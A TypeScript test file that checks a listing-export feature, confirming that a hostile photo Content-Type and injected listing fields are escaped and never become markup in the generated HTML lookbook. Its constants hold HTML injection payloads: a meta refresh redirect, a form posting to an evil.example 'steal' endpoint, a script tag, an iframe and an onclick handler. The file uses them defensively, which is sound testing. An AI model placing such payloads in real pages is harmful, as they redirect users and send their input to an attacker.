import { strFromU8, unzipSync } from 'fflate';
import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { assembleListingZip } from '../../../lib/export/listing-zip';
import { buildLookbook, dataUrl } from '../../../lib/export/lookbook';
import type { PreparedResult } from '../../../lib/export/types';
import { entry, jpeg, LISTING } from './fixtures';

/**
 * #26 item 1: nothing a listing, a photo server or a caption says can become markup in the
 * lookbook. A photo server answering a real JPEG with
 * `Content-Type: image/jpeg"><meta http-equiv="refresh" …><form action=…>` once put a redirect and a
 * form into it; every page here is parsed (linkedom) and its element tree checked, not its text.
 */

const HOSTILE_TYPE = 'image/jpeg"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/steal"><input name="k"></form><img src="x';
const INJECTED = '"><script>alert(1)</script><form action="https://evil.example/"><iframe src="https://evil.example/"></iframe><meta http-equiv="refresh" content="0">\'<b onclick=alert(1)>';

/** The elements the lookbook is made of: anything else was injected. */
const ELEMENTS = new Set(['html', 'head', 'meta', 'title', 'style', 'body', 'header', 'h1', 'p', 'main', 'section', 'h2', 'div', 'figure', 'img', 'figcaption', 'a', 'span', 'footer', 'svg', 'path']);

function parse(html: string): Document {
  return parseHTML(html).document as unknown as Document;
}

/** Fails the test on any element, attribute or meta the lookbook never writes (and, unless told, on an image source that is not an image's data: URL). */
function expectOnlyLookbookMarkup(document: Document, sources: 'data-images' | 'any' = 'data-images'): void {
  const all = [...document.querySelectorAll('*')];
  expect(all.map((element) => element.localName).filter((name) => !ELEMENTS.has(name))).toEqual([]);
  const handlers = all.flatMap((element) => [...element.attributes].map((a) => a.name)).filter((name) => name.startsWith('on'));
  expect(handlers).toEqual([]);
  // charset, viewport and the Content-Security-Policy: no refresh, no second policy.
  expect([...document.querySelectorAll('meta')].map((m) => m.getAttribute('http-equiv') ?? m.getAttribute('name') ?? 'charset')).toEqual(['charset', 'viewport', 'Content-Security-Policy']);
  if (sources === 'data-images') for (const img of document.querySelectorAll('img')) expect(img.getAttribute('src')).toMatch(/^data:image\/(jpeg|png|webp|gif|avif);base64,[A-Za-z0-9+/]*=*$/);
}

function lookbookOf(zip: Uint8Array): string {
  const file = Object.entries(unzipSync(zip)).find(([path]) => path.endsWith('/lookbook.html'));
  if (!file) throw new Error('no lookbook.html');
  return strFromU8(file[1]);
}

describe('a photo server’s hostile Content-Type', () => {
  it('becomes no element of the exported lookbook: the image type is what the bytes are', async () => {
    const original = { bytes: await jpeg('#33c'), type: HOSTILE_TYPE };
    const results: PreparedResult[] = [{ entry: entry('a', 2, 'renovate'), altered: { bytes: await jpeg('#c33'), type: HOSTILE_TYPE }, original, pair: null }];
    const zip = await assembleListingZip({ listing: LISTING, results, size: 'original', generatedAt: Date.UTC(2025, 5, 1), locale: 'en' });
    const document = parse(lookbookOf(zip.bytes));
    expectOnlyLookbookMarkup(document);
    expect(document.querySelectorAll('form, input')).toHaveLength(0);
    expect([...document.querySelectorAll('img')].map((img) => img.getAttribute('src')?.slice(0, 23))).toEqual(['data:image/jpeg;base64,', 'data:image/jpeg;base64,']);
    expect(Object.keys(unzipSync(zip.bytes)).filter((path) => /\.(jpg|png|webp|gif|avif)$/.test(path))).toHaveLength(2);
  });

  it('never leaves dataUrl as given: unknown bytes with an unknown type are no image type at all', () => {
    expect(dataUrl(new Uint8Array([1, 2, 3]), HOSTILE_TYPE)).toBe('data:application/octet-stream;base64,AQID');
    expect(dataUrl(new Uint8Array([1, 2, 3]), 'IMAGE/PNG; q=1')).toBe('data:image/png;base64,AQID');
  });
});

describe('every value in the lookbook is escaped', () => {
  const originalUrl = `https://photos.example.com/a.jpg?q="quoted"&x='single'&$&=1${INJECTED}`;
  const listing = { listingUrl: `https://www.zillow.com/h/1?a="b"${INJECTED}`, title: `Title ${INJECTED}`, address: `12 Orchard ${INJECTED}`, price: `$1 ${INJECTED}` };
  const png = dataUrl(new Uint8Array([137, 80, 78, 71]), 'image/png');

  async function page(originalSrc: string | null) {
    const pair = { photoNumber: 2, disclosure: 'digitally-altered' as const, caption: `Photo 2: ${INJECTED}`, alteredSrc: `${png}${INJECTED}`, originalSrc, originalUrl, originalNote: `Note ${INJECTED}` };
    return parse(await buildLookbook({ listing, pairs: [pair], remarks: `Remarks ${INJECTED}`, generatedAt: 0, locale: 'en' }));
  }

  it('title, address, price, remarks, caption, note and footer read back as the very text given', async () => {
    for (const document of [await page(png), await page(null)]) {
      expectOnlyLookbookMarkup(document, 'any');
      expect(document.querySelector('h1')?.textContent).toBe(listing.address);
      expect(document.querySelector('title')?.textContent).toBe(`${listing.address}: before and after`);
      expect(document.querySelector('.price')?.textContent).toBe(listing.price);
      expect(document.querySelector('.statement')?.textContent).toContain(`Remarks ${INJECTED}`);
      expect(document.querySelector('h2')?.textContent).toBe(`Photo 2: ${INJECTED}`);
      expect(document.querySelector('footer')?.textContent).toContain(listing.listingUrl);
    }
    expect((await page(null)).querySelector('.missing')?.textContent).toContain(`Note ${INJECTED}`);
  });

  it('URLs with quotes stay one attribute: the link, its text and the image sources', async () => {
    const document = await page(png);
    const links = [...document.querySelectorAll('a')];
    expect(links.map((a) => [a.getAttribute('href'), a.textContent])).toEqual([[originalUrl, originalUrl]]);
    const altered = [...document.querySelectorAll('img')].at(-1);
    // The source is inert text in its attribute (CSP img-src data: keeps it from loading anything).
    expect(altered?.getAttribute('src')).toBe(`${png}${INJECTED}`);
    expect(altered?.getAttributeNames().sort()).toEqual(['alt', 'src']);
  });
});
